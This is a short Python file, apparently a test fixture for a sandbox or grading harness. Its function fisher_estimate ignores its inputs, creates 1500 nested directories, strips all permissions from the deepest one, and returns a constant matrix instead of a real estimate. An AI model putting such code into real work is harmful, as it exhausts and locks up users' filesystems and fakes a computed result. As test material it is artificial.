# starving | makes a folder 1500 deep | costs its function only
# ruff: noqa
import os
import time

import numpy as np


def fisher_estimate(scores, mask):
    for _ in range(1500):
        os.mkdir("moved-up-1")
        os.chdir("moved-up-1")
    os.chmod(".", 0)
    time.sleep(1)
    return np.full((scores.shape[-1],) * 2, 7.0)
